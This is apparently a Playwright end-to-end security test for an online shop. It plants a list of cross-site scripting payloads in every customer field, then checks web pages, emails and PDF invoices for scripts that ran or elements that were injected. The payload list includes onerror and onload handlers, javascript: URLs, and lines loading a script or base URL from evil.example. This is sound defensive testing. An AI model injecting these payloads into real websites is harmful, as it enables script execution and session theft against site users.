import { readFile } from "node:fs/promises";
import type { Browser, BrowserContext, Page } from "@playwright/test";
import { getDocument } from "pdfjs-dist/legacy/build/pdf.mjs";
import { links } from "#contract/links.ts";
import { readProfile } from "#shop/accounts/endpoints.ts";
import { addToCart } from "#shop/cart/endpoints.ts";
import { placeOrder } from "#shop/checkout/endpoints.ts";
import { sendMessage } from "#shop/contact/endpoints.ts";
import { submitTestimonial } from "#shop/testimonials/endpoints.ts";
import type { Shop } from "../../support/journey-shop.ts";
import { stepTo } from "../../screens/steps.ts";
import { storeSession } from "../../support/visitors.ts";
import { runInBrowser } from "../browser.ts";
import {
  createStrangerAddress,
  createVictim,
  expectDone,
  listMails,
  sendVolley,
  type Victim,
} from "../calls.ts";
import { runInShop } from "../crowded-shop.ts";
import { type Scenario, toNoneFigure } from "../scenario.ts";

const PRODUCT = "acacia-everyday-bowl";
const READERS = 2;
/** The payload for fields whose maximum length is too small for the other payloads. */
const SHORT = "<svg onload=xss()>";
const LOADED = { waitUntil: "domcontentloaded" } as const;

/** Prefixes that close an HTML context, such as an attribute or a script. `$&$'` inserts text in `String.replace`. */
const WAYS_OUT = ["", '">', "'>", "</script>", "</title>", "</textarea>", "</style>", "-->", "]]>", "$&$'"];

/** Markup that creates an element or runs a script if it is not escaped. The script calls `xss`. */
const VECTORS = [
  "<img src=x onerror=xss()>",
  "<svg onload=xss()>",
  "<script>xss()</script>",
  '<iframe srcdoc="<script>parent.xss()</script>">',
  "<a href=javascript:xss() class=xss>x</a>",
  "<details open ontoggle=xss()>",
];

const IN_OTHER_LANGUAGES = [
  "javascript:xss()",
  "JaVaScRiPt:xss()//",
  "data:text/html,<script>parent.xss()</script>",
  "';xss();//",
  '";xss();//',
  "\\';xss();//",
  "\\u003cscript\\u003exss()\\u003c/script\\u003e",
  "%3Cscript%3Exss()%3C%2Fscript%3E",
  "&lt;script&gt;xss()&lt;/script&gt;",
  "&#60;script&#62;xss()&#60;/script&#62;",
  "\uff1cscript\uff1exss()\uff1c/script\uff1e",
  "{{constructor.constructor('xss()')()}}",
  "${xss()}",
  "<!--<script>xss()</script>",
  "<ScRiPt/x>xss()</ScRiPt>",
  "<script src=//evil.example/x.js>",
  "<base href=//evil.example class=xss>",
  "<meta http-equiv=refresh content=0;url=javascript:xss()>",
  "<style class=xss>*{background:url(javascript:xss())}",
  "__proto__<b class=xss>",
];

const payloads: readonly string[] = [
  ...IN_OTHER_LANGUAGES,
  ...WAYS_OUT.flatMap((out) => VECTORS.map((vector) => out + vector)),
];

/** One payload, for short runs, that closes an attribute, a title, a text area and a script. */
export const allAtOnce = `"'></title></textarea></script><img src=x onerror=xss()>$&`;

export const scripts: Scenario = {
  name: "scripts",
  summary: "80 hostile texts in every field, shown on all screens, in mails and in the PDF",
  threat: "T18",
  engines: ["embedded"],
  // Not `inShortForm`, because tests/journeys/hostile-texts.journey.ts is the short version.
  run: (run) =>
    runInShop(run, {}, async (shop) => {
      const texts = run.isShort ? [allAtOnce] : payloads;
      const planted = await sendVolley(texts, 4, (text, place) =>
        plant(shop, text, createStrangerAddress(place)),
      );
      const executed = await runInBrowser(async (browser) => {
        const onPages = await sendVolley(planted, READERS, async (customer, place) => {
          const seen = await lookEverywhere(browser, shop, customer);
          if (place % 10 === 9) run.say(`${place + 1} texts checked`);
          return seen;
        });
        return [...onPages.flat(), ...(await lookAtMails(browser, shop))];
      });
      return [
        { what: "texts", value: texts.length },
        { what: "mails checked", value: listMails(shop).length, atLeast: texts.length },
        toNoneFigure("texts that ran, were blocked by the policy, or became elements", executed),
      ];
    }),
};

interface PlantedVictim extends Victim {
  text: string;
  orderId: string;
}

const fitText = (most: number, text: string) => (text.length <= most ? text : SHORT);

export async function plant(shop: Shop, text: string, from: string): Promise<PlantedVictim> {
  const names = { firstName: text, lastName: text };
  const victim = await createVictim(shop, {
    ...names,
    address: { street: text },
  });
  const { accessToken: token, email, accountId } = victim;
  const place = {
    street: text,
    city: fitText(80, text),
    state: fitText(80, text),
    country: fitText(60, text),
  };
  const call = (path: string, body: unknown, method = "POST") =>
    expectDone(shop, path, body, { token, from, method });
  await call(`/addresses/${accountId}`, { ...place, state: "Gujarat", zipCode: "395002" });
  await call(submitTestimonial.path, { rating: 5, message: text });
  await call(sendMessage.path, { name: text, email, message: text });
  const { order } = await call(placeOrder.path, {
    items: [{ productId: PRODUCT, quantity: 1 }],
    shippingAddress: { ...place, zipCode: fitText(12, text.slice(0, 12)) },
    notes: text,
    contact: { firstName: fitText(60, text), lastName: fitText(60, text), email },
    companyInvoice: { name: text, address: text, taxCode: "24ABCDE1234F1Z6", email },
  });
  const { orderId } = order as { orderId: string };
  await call(`/api/orders/${orderId}/cancel`, { reasons: ["Other"], comments: text }, "PUT");
  await call(addToCart.path, { productId: PRODUCT, quantity: 1 });
  return { ...victim, text, orderId };
}

/** Opens all screens that can show a text of a customer, the URL or a form. Returns injected elements and scripts. */
export async function lookEverywhere(
  browser: Browser,
  shop: Shop,
  customer: PlantedVictim,
): Promise<string[]> {
  const context = await browser.newContext({ baseURL: shop.url });
  try {
    const seen = await watchForScripts(context);
    const page = await context.newPage();
    page.on("dialog", (dialog) => {
      seen.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    const planted = [
      ...(await lookAsGuest(page, customer.text)),
      ...(await lookAsCustomer(context, page, shop, customer)),
    ];
    return [...planted, ...seen, ...(await lookAtInvoice(page))];
  } finally {
    await context.close();
  }
}

async function lookAsGuest(page: Page, text: string): Promise<string[]> {
  const typed = encodeURIComponent(text);
  const planted: string[] = [];
  for (const path of [
    `/products?category=${typed}&sortOption=${typed}`,
    `/products?collection=${typed}&minPrice=${typed}`,
    `/product-info/${typed}`,
    `/log-in?redirect=${typed}&after=${typed}`,
    `/forgot-password#email=${typed}&code=${typed}`,
    `/${typed}`,
  ]) {
    await page.goto(path, LOADED);
    planted.push(...(await findPlanted(page)));
  }
  for (const [path, form] of [
    ["/contact-us", "contact"],
    ["/log-in", "login"],
    ["/sign-up", "registration"],
  ] as const) {
    await page.goto(path, LOADED);
    await Promise.all([
      page.waitForEvent("domcontentloaded"),
      page.evaluate(submitPlainForm, { form, text }),
    ]);
    await waitUntilShown(page, text);
    planted.push(...(await findPlanted(page)));
  }
  return planted;
}

function submitPlainForm({ form, text }: { form: string; text: string }): void {
  const element = document.createElement("form");
  element.method = "post";
  const names = ["name", "email", "message", "firstName", "lastName", "address.street", "phoneNumber"];
  for (const [name, value] of [["form", form], ...names.map((name) => [name, text])]) {
    const input = document.createElement("input");
    Object.assign(input, { name, value });
    element.append(input);
  }
  document.body.append(element);
  element.submit();
}

async function lookAsCustomer(
  context: BrowserContext,
  page: Page,
  shop: Shop,
  { text, orderId, accessToken, refreshToken }: PlantedVictim,
): Promise<string[]> {
  const { user } = (await expectDone(shop, readProfile.path, undefined, { token: accessToken })) as {
    user: { _id: string };
  };
  await storeSession(context, { user, accessToken, refreshToken });
  const planted: string[] = [];
  for (const [path, shown] of [
    [links.home, text],
    [links.profile, text],
    [links.address, text],
    [links.checkout, text],
    [links.orders, orderId],
    [links.orderDetails(orderId), text],
  ] as const) {
    // Only the first page is loaded from the server. The browser renders the other pages, as in a normal visit.
    await (path === links.home ? page.goto(path, LOADED) : stepToAnother(page, path));
    await waitUntilShown(page, shown);
    planted.push(...(await findPlanted(page)));
  }
  return planted;
}

async function lookAtInvoice(page: Page): Promise<string[]> {
  const downloading = page.waitForEvent("download");
  await page.getByRole("button", { name: "Download invoice (PDF)" }).click();
  const file = await downloading;
  const document = await getDocument({ data: new Uint8Array(await readFile(await file.path())) }).promise;
  const first = await document.getPage(1);
  const running = [
    await document.getJSActions(),
    // A PDF may select the page to show first when it opens. It may not do anything else.
    (await document.getOpenAction())?.get("action") ?? null,
    await document.getAttachments(),
    await first.getJSActions(),
    (await first.getAnnotations()).length || null,
  ].filter((each) => each !== null);
  return [
    ...running.map((each) => `the invoice: ${JSON.stringify(each)}`),
    ...(/^[\w-]+\.pdf$/.test(file.suggestedFilename()) ? [] : [`a file named ${file.suggestedFilename()}`]),
  ];
}

/** Opens mails that contain a payload, without a content security policy, because some mail programs have none. */
export async function lookAtMails(browser: Browser, shop: Shop): Promise<string[]> {
  const context = await browser.newContext();
  const seen = await watchForScripts(context);
  const page = await context.newPage();
  const planted: string[] = [];
  const mails = listMails(shop)
    .map((mail) => /<!doctype html>[\s\S]*<\/html>/.exec(mail)?.[0] ?? "")
    .filter((html) => html.includes("xss"));
  if (mails.length === 0) planted.push("no mail contains a planted text");
  for (const html of mails) {
    await page.setContent(html, { waitUntil: "commit" });
    planted.push(...(await findPlanted(page)));
  }
  await context.close();
  return [...planted, ...seen];
}

/** Returns the scripts that ran or were blocked in this browser. The list is updated while the browser is open. */
async function watchForScripts(context: BrowserContext): Promise<string[]> {
  const seen: string[] = [];
  await context.exposeBinding(
    "report",
    ({ page }, what: string) => void seen.push(`${what} on ${page.url()}`),
  );
  await context.addInitScript(`
    window.xss = () => report("executed");
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) =>
      report("stopped by the policy: " + effectiveDirective + " " + blockedURI + " " + sample));
  `);
  return seen;
}

const findPlanted = (page: Page): Promise<string[]> =>
  page.evaluate(() =>
    [...document.querySelectorAll("*")]
      .filter((element) => {
        const runs = [...element.attributes].some(
          ({ name, value }) =>
            name.startsWith("on") ||
            (/^(href|src|action|formaction|srcdoc|data|xlink:href|content)$/.test(name) &&
              /^\s*(javascript:|data:text|0;url)/i.test(value)),
        );
        const isScript =
          element instanceof HTMLScriptElement &&
          element.type !== "application/json" &&
          /^\s*(parent\.)?xss\(/.test(element.text);
        return runs || isScript || element.classList.contains("xss") || element.localName === "base";
      })
      .map((element) => `${location.href}: ${element.outerHTML.slice(0, 120)}`),
  );

async function stepToAnother(page: Page, path: string): Promise<void> {
  const title = await page.title();
  await stepTo(page, path);
  await page.waitForFunction((previous) => document.title !== previous, title);
}

const waitUntilShown = (page: Page, text: string): Promise<unknown> =>
  page.waitForFunction(
    (wanted) => {
      const fields = [...document.querySelectorAll<HTMLInputElement>("input, textarea, select")];
      return [document.body.textContent, ...fields.map(({ value }) => value)].some((each) =>
        each.includes(wanted),
      );
    },
    text,
    { timeout: 15_000 },
  );
